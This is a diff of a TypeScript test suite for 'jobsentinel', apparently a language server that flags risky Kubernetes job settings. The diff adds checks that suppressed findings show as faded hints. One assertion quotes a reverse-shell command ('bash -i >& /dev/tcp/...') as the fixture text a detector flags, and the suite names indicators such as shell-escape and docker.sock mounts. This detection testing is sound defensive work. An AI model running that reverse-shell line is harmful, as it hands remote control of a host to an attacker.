@@ -7,6 +7,7 @@ import { pathToFileURL } from 'node:url';
 import {
   CodeActionRequest,
   DiagnosticSeverity,
+  DiagnosticTag,
   DidChangeWatchedFilesNotification,
   FileChangeType,
   HoverRequest,
@@ -27,6 +28,11 @@ function byCode(diagnostics: Diagnostic[], code: string): Diagnostic {
   const found = diagnostics.find((diagnostic) => diagnostic.code === code);
   assert.ok(found, `expected a ${code} diagnostic, got: ${diagnostics.map((d) => d.code ?? d.message).join(', ')}`);
   return found;
+}
+
+/** The findings, without the faded hints (tagged Unnecessary) that show suppressed ones. */
+function active(diagnostics: Diagnostic[]): Diagnostic[] {
+  return diagnostics.filter((diagnostic) => !diagnostic.tags?.includes(DiagnosticTag.Unnecessary));
 }
 
 function at(line: number, character: number) {
@@ -101,6 +107,26 @@ describe('language server over stdio', () => {
     const image = byCode(diagnostics, 'attacker-tooling');
     assert.equal(cronJob.split('\n')[image.range.start.line].slice(image.range.start.character, image.range.end.character), 'alpine:3.20');
     assert.equal(image.severity, DiagnosticSeverity.Information);
+  });
+
+  it('shows a suppressed finding as a faded hint that names what suppressed it; the findings not covered stay as they are', async () => {
+    const uri = 'file:///workspace/suppressed.yaml';
+    const text = cronJob
+      .replace('              args:\n', '              args:\n                # jobsentinel-ignore: shell-escape -- a drill\n')
+      .replace('  name: log-rotate\n', '  name: log-rotate\n  annotations:\n    jobsentinel.io/ignore: host-network\n');
+    const commentLine = text.split('\n').findIndex((line) => line.includes('jobsentinel-ignore')) + 1;
+    await session.open(uri, text);
+    const { diagnostics } = await session.diagnosticsFor(uri);
+    const hints = diagnostics.filter((diagnostic) => diagnostic.severity === DiagnosticSeverity.Hint);
+    assert.deepEqual([...new Set(hints.map((hint) => `${hint.code} ${hint.tags}`))].sort(), [`host-network ${DiagnosticTag.Unnecessary}`, `shell-escape ${DiagnosticTag.Unnecessary}`]);
+    const shell = hints.find((hint) => hint.code === 'shell-escape')!;
+    assert.equal(shell.range.start.line, commentLine, 'the flagged line is the one below the comment');
+    assert.match(shell.message, new RegExp(`^Suppressed by a jobsentinel-ignore comment at line ${commentLine} \\(error\\): `));
+    assert.equal(text.split('\n')[shell.range.start.line].slice(shell.range.start.character, shell.range.end.character), 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1');
+    assert.match(hints.find((hint) => hint.code === 'host-network')!.message, /^Suppressed by the jobsentinel\.io\/ignore annotation at line 6 \(warning\)/);
+    // The others are findings as before, at their usual severities.
+    assert.equal(byCode(diagnostics, 'privileged-container').severity, DiagnosticSeverity.Error);
+    assert.ok(diagnostics.every((diagnostic) => diagnostic.severity === DiagnosticSeverity.Hint || !['shell-escape', 'host-network'].includes(String(diagnostic.code))));
   });
 
   it('leaves a Deployment alone, even one full of the same patterns', async () => {
@@ -184,7 +210,7 @@ describe('language server over stdio', () => {
     const edited = await applyAction(session, uri, cronJob, fix);
     assert.equal(edited.split('\n')[20], '                privileged: false');
     const { diagnostics } = await session.diagnosticsFor(uri, 2);
-    assert.equal(diagnostics.filter((d) => d.code === 'privileged-container').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0);
     assert.ok(diagnostics.some((d) => d.code === 'host-network'), 'other findings stay');
   });
 
@@ -197,7 +223,7 @@ describe('language server over stdio', () => {
     const edited = await applyAction(session, uri, cronJob, fix);
     assert.equal(edited, cronJob.replace('          hostNetwork: true\n', ''));
     const { diagnostics } = await session.diagnosticsFor(uri, 2);
-    assert.equal(diagnostics.filter((d) => d.code === 'host-network').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'host-network').length, 0);
   });
 
   it('removes hostNetwork from JSON without breaking it', async () => {
@@ -226,7 +252,7 @@ describe('language server over stdio', () => {
     assert.equal(lines[27], '                # jobsentinel-ignore: sensitive-mount');
     assert.equal(lines[28], '                path: /var/run/docker.sock');
     const { diagnostics } = await session.diagnosticsFor(uri, 2);
-    assert.equal(diagnostics.filter((d) => d.code === 'sensitive-mount').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'sensitive-mount').length, 0);
     assert.ok(diagnostics.some((d) => d.code === 'host-path-mount'), 'only the chosen indicator is silenced');
   });
 
@@ -255,7 +281,7 @@ describe('language server over stdio', () => {
     const edited = await applyAction(session, uri, text, fix);
     assert.equal(edited.split('\n')[10], '            path: |- # jobsentinel-ignore: sensitive-mount');
     const { diagnostics } = await session.diagnosticsFor(uri, 2);
-    assert.equal(diagnostics.filter((d) => d.code === 'sensitive-mount').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'sensitive-mount').length, 0);
   });
 
   it('a finding in a multi-line script marks its line; the ignore comment goes on the block header', async () => {
@@ -287,7 +313,7 @@ describe('language server over stdio', () => {
     const edited = await applyAction(session, uri, text, fix);
     assert.equal(edited.split('\n')[12], '            - | # jobsentinel-ignore: shell-escape');
     const { diagnostics } = await session.diagnosticsFor(uri, 2);
-    assert.equal(diagnostics.filter((d) => d.code === 'shell-escape').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'shell-escape').length, 0);
   });
 
   it('adds the jobsentinel.io/ignore annotation, creating annotations: when absent', async () => {
@@ -300,7 +326,7 @@ describe('language server over stdio', () => {
     const edited = await applyAction(session, uri, cronJob, fix);
     assert.deepEqual(edited.split('\n').slice(2, 6), ['metadata:', '  annotations:', '    "jobsentinel.io/ignore": "attacker-tooling"', '  name: log-rotate']);
     const { diagnostics } = await session.diagnosticsFor(uri, 2);
-    assert.equal(diagnostics.filter((d) => d.code === 'attacker-tooling').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'attacker-tooling').length, 0);
     assert.ok(diagnostics.some((d) => d.code === 'privileged-container'));
   });
 
@@ -309,14 +335,14 @@ describe('language server over stdio', () => {
     const text = cronJob.replace('  namespace: kube-system\n', '  namespace: kube-system\n  annotations:\n    jobsentinel.io/ignore: host-path-mount\n');
     await session.open(uri, text);
     const { diagnostics: before } = await session.diagnosticsFor(uri);
-    assert.equal(before.filter((d) => d.code === 'host-path-mount').length, 0, 'the existing annotation works');
+    assert.equal(active(before).filter((d) => d.code === 'host-path-mount').length, 0, 'the existing annotation works');
     const hostNetwork = byCode(before, 'host-network');
     const fix = (await quickFixes(session, uri, hostNetwork)).find((action) => action.title.includes('jobsentinel.io/ignore'));
     assert.ok(fix);
     const edited = await applyAction(session, uri, text, fix);
     assert.ok(edited.includes('    jobsentinel.io/ignore: "host-path-mount, host-network"\n'), edited);
     const { diagnostics } = await session.diagnosticsFor(uri, 2);
-    assert.equal(diagnostics.filter((d) => d.code === 'host-network' || d.code === 'host-path-mount').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'host-network' || d.code === 'host-path-mount').length, 0);
   });
 
   it('adds the annotation inside JSON metadata', async () => {
@@ -343,7 +369,7 @@ describe('language server over stdio', () => {
     await session.change(uri, [{ range: { start: at(line, 32), end: at(line, 32) }, text: 'e' }]);
     const final = session.version(uri);
     const { diagnostics } = await session.diagnosticsFor(uri, final);
-    assert.equal(diagnostics.filter((d) => d.code === 'privileged-container').length, 0);
+    assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0);
     const versions = session.published.filter((params) => params.uri === uri).map((params) => params.version);
     assert.deepEqual(versions, [1, final], 'stale runs were cancelled, not published');
   });
@@ -460,7 +486,7 @@ describe('settings and .jobsentinel.yaml', () => {
       const seen = publicationsOf(session, uri);
       await session.changeSettings({ severity: { 'privileged-container': 'off' } });
       const { diagnostics } = await nextPublication(session, uri, seen);
-      assert.equal(diagnostics.filter((d) => d.code === 'privileged-container').length, 0, 'severity off removes the diagnostic');
+      assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0, 'severity off removes the diagnostic');
       assert.equal(byCode(diagnostics, 'host-network').severity, DiagnosticSeverity.Warning, 'back to the default');
     } finally {
       await session.stop();
@@ -490,13 +516,13 @@ describe('settings and .jobsentinel.yaml', () => {
       let seen = publicationsOf(session, uri);
       await session.changeSettings({ profile: 'seed' });
       let { diagnostics } = await nextPublication(session, uri, seen);
-      assert.equal(diagnostics.filter((d) => d.code === 'host-pid').length, 0);
+      assert.equal(active(diagnostics).filter((d) => d.code === 'host-pid').length, 0);
       byCode(diagnostics, 'host-network');
 
       seen = publicationsOf(session, uri);
       await session.changeSettings({ ignore: [{ indicators: ['attacker-tooling'], images: ['alpine:*'] }] });
       ({ diagnostics } = await nextPublication(session, uri, seen));
-      assert.equal(diagnostics.filter((d) => d.code === 'attacker-tooling').length, 0);
+      assert.equal(active(diagnostics).filter((d) => d.code === 'attacker-tooling').length, 0);
       byCode(diagnostics, 'host-pid');
     } finally {
       await session.stop();
@@ -512,7 +538,7 @@ describe('settings and .jobsentinel.yaml', () => {
       const uri = pathToFileURL(join(workspace, 'jobs/cronjob.yaml')).href;
       await session.open(uri, cronJob);
       const first = await session.diagnosticsFor(uri);
-      assert.equal(first.diagnostics.filter((d) => d.code === 'privileged-container').length, 0, 'the file switched it off');
+      assert.equal(active(first.diagnostics).filter((d) => d.code === 'privileged-container').length, 0, 'the file switched it off');
       assert.ok(session.registrations.includes('workspace/didChangeWatchedFiles'));
 
       await writeFile(configFile, 'severity:\n  host-network: error\n');
@@ -546,7 +572,8 @@ describe('settings and .jobsentinel.yaml', () => {
       const seen = publicationsOf(session, uri);
       await session.connection.sendNotification('jobsentinel/workspaceTrusted');
       const { diagnostics } = await nextPublication(session, uri, seen);
-      assert.deepEqual(diagnostics, [], 'once trusted, the config applies');
+      assert.deepEqual(active(diagnostics), [], 'once trusted, the config applies');
+      assert.ok(diagnostics.some((diagnostic) => /^Suppressed by ignore entry \/ignore\/0 of the config file/.test(diagnostic.message)), 'what it suppresses is shown faded');
     } finally {
       await session.stop();
       await rm(workspace, { recursive: true, force: true });
@@ -562,7 +589,7 @@ describe('settings and .jobsentinel.yaml', () => {
       const uri = pathToFileURL(join(workspace, 'cronjob.yaml')).href;
       await session.open(uri, cronJob);
       const { diagnostics } = await session.diagnosticsFor(uri);
-      assert.equal(diagnostics.filter((d) => d.code === 'privileged-container').length, 0, 'team.yaml applies');
+      assert.equal(active(diagnostics).filter((d) => d.code === 'privileged-container').length, 0, 'team.yaml applies');
       byCode(diagnostics, 'host-network');
 
       const seen = publicationsOf(session, uri);
